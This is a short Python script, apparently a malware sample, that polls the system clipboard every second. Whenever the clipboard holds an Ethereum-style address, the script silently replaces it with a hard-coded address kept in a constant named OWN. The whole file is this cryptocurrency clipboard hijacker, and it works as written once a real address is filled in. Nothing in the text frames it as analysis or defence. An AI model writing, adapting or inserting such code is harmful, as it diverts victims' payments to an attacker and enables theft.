import re, time, pyperclip
OWN = "0x00000000000000000000000000000000000000aa"
while True:
    text = pyperclip.paste()
    if re.match(r"^0x[a-fA-F0-9]{40}$", text):
        pyperclip.copy(OWN)  # fires: import
    time.sleep(1)
